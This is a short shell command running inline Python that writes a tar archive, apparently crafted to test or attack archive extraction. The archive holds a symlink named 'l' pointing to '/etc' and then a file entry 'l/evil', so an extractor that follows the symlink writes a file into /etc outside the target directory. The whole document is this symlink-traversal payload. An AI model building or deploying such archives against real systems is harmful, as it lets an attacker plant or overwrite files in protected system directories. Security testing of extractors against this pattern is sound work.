python3 -c "
import tarfile,io
t=tarfile.open('x.tar','w')
i=tarfile.TarInfo('l'); i.type=tarfile.SYMTYPE; i.linkname='/etc'; i.mtime=1000000000; t.addfile(i)
i=tarfile.TarInfo('l/evil'); i.size=2; i.mtime=1000000000; t.addfile(i,io.BytesIO(b'x\n'))
"
